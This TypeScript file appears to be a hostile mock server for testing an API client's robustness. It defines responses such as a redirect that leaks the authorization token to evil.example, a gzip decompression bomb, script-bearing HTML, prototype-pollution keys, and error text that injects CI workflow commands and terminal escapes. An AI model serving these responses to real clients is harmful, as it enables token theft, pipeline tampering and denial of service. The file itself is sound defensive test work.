import type { IncomingMessage, ServerResponse } from "node:http";
import { gzipSync } from "node:zlib";

/** A request, read to its end. */
export interface Asked {
  method: string;
  path: string;
  headers: IncomingMessage["headers"];
  body: string;
}

/** Answers a request as no org should. */
export type Attack = (response: ServerResponse, asked: Asked) => unknown;

const json = (response: ServerResponse, body: unknown, status = 200) =>
  response.writeHead(status, { "content-type": "application/json" }).end(JSON.stringify(body));

const refusal = (response: ServerResponse, message: string, errorCode = "UNKNOWN_THING", status = 400) =>
  json(response, [{ errorCode, message, fields: ["constructor", "__proto__", "Name"] }], status);

/** The references of the reads that a composite call holds; none for any other. */
const readsOf = ({ path, body }: Asked): string[] =>
  path.endsWith("/composite")
    ? (JSON.parse(body) as { compositeRequest: { referenceId: string }[] }).compositeRequest.map(
        ({ referenceId }) => referenceId,
      )
    : [];

/** Gives one body to every read, however it travels. */
const toEveryRead = (response: ServerResponse, asked: Asked, body: unknown) => {
  const reads = readsOf(asked);
  if (reads.length === 0) return json(response, body);
  const compositeResponse = reads.map((referenceId) => ({ body, httpStatusCode: 200, referenceId }));
  return json(response, { compositeResponse });
};

const bomb = gzipSync(Buffer.alloc(400_000_000, " "));
const page = "<html><head><script>alert(1)</script></head><body>Please sign in</body></html>";

export const attacks: Record<string, Attack> = {
  "redirects with a token in the address": (response, { headers }) =>
    response.writeHead(302, { location: `https://evil.example/?sid=${headers.authorization}` }).end(),
  "redirects that keep the method": (response) =>
    response.writeHead(307, { location: "http://evil.example/services/data" }).end(),
  "an answer that drips": (response) => {
    response.writeHead(200, { "content-type": "application/json" });
    const drops = setInterval(() => response.write(" "), 200);
    response.on("close", () => clearInterval(drops));
  },
  "no answer": () => {},
  "a broken connection": (response) => response.destroy(),
  "a bomb": (response) =>
    response.writeHead(200, { "content-type": "application/json", "content-encoding": "gzip" }).end(bomb),
  "a page": (response) => response.writeHead(200, { "content-type": "text/html" }).end(page),
  "a page that calls itself JSON": (response) =>
    response.writeHead(200, { "content-type": "application/json" }).end(page),
  "an error in HTML": (response) => response.writeHead(503, { "content-type": "text/html" }).end(page.repeat(500)),
  "an empty answer": (response) => response.writeHead(200).end(),
  "half an answer": (response) => response.writeHead(200, { "content-type": "application/json" }).end('{"records":['),
  "an empty object": (response) => json(response, {}),
  "lists of nothing": (response, asked) => toEveryRead(response, asked, []),
  "records that are none": (response, asked) =>
    toEveryRead(response, asked, { totalSize: 2, done: true, records: [null, "x"] }),
  "keys of prototypes": (response, asked) =>
    toEveryRead(response, asked, JSON.parse('{"__proto__":{"Id":"x"},"constructor":{"prototype":{"records":[]}}}')),
  "pages without end": (response, asked) =>
    toEveryRead(response, asked, {
      totalSize: 9,
      done: false,
      records: [],
      nextRecordsUrl: "/services/data/v67.0/query/01g000000000001AAA-1",
    }),
  "more, and not where": (response, asked) => toEveryRead(response, asked, { totalSize: 9, done: false, records: [] }),
  "answers without a reference": (response, asked) =>
    json(response, {
      compositeResponse: readsOf(asked).map(() => ({ body: { done: true, records: [] }, httpStatusCode: 200 })),
    }),
  "answers to something else": (response, asked) =>
    json(response, {
      compositeResponse: readsOf(asked).map(() => ({
        body: { done: true, records: [] },
        httpStatusCode: 200,
        referenceId: "constructor",
      })),
    }),
  "pages elsewhere": (response, asked) =>
    toEveryRead(response, asked, {
      totalSize: 9,
      done: false,
      records: [],
      nextRecordsUrl: "https://evil.example/next",
    }),
  "an endless 401": (response) => refusal(response, "Session expired or invalid", "INVALID_SESSION_ID", 401),
  "control characters and commands": (response) =>
    refusal(response, "\u001b[2J::set-env name=A::b\n##vso[task.setvariable variable=x]y\u202e\u0000\u009b31m"),
  "secrets sent back": (response, { headers, body }) =>
    refusal(
      response,
      `you sent ${headers.authorization} ${JSON.stringify(body)} ${encodeURIComponent(String(headers.authorization))}`,
    ),
  "a huge error": (response) => refusal(response, "x".repeat(5_000_000)),
  "a code that is none": (response) => refusal(response, "no", "constructor"),
  "not found, for everything": (response) =>
    refusal(response, "The requested resource does not exist", "NOT_FOUND", 404),
};
